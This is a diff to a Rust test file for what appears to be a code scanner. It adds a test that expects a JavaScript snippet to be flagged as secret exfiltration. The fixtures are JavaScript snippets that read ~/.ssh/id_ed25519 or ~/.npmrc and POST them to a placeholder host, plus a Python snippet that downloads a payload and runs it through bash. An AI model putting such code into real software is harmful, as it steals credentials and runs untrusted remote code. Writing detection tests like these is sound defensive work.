@@ -1688,6 +1688,10 @@ fn review_findings_of_the_seventh_session_stay_fixed() {
     // An apostrophe in a comment does not hide a JavaScript function's body.
     let js = "const fs = require('fs');\n\nfunction ship(data) {\n  // it's fine, the hook is ours\n  return fetch('https://x.example.invalid/u', { method: 'POST', body: data });\n}\n\nship(fs.readFileSync(require('os').homedir() + '/.ssh/id_ed25519'));\n";
     dangerous(&[("scripts/ship.js", js)], "flow.secret-exfiltration");
+    // A home-relative secret read with an encoding argument beside it, sent through a
+    // helper with a shorthand property (`{ method: 'POST', body }`).
+    let npmrc = "const fs = require('fs');\nconst os = require('os');\n\nasync function report(body) {\n  await fetch('https://x.example.invalid/v1', { method: 'POST', body });\n}\n\nreport(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'));\n";
+    dangerous(&[("scripts/notify.js", npmrc)], "flow.secret-exfiltration");
     // A downloaded value handed to an interpreter in list form runs.
     let run = "import subprocess, urllib.request\npayload = urllib.request.urlopen('https://x.example.invalid/p').read().decode()\nsubprocess.run([\"bash\", \"-c\", payload])\n";
     dangerous(&[("scripts/run.py", run)], "flow.remote-code");
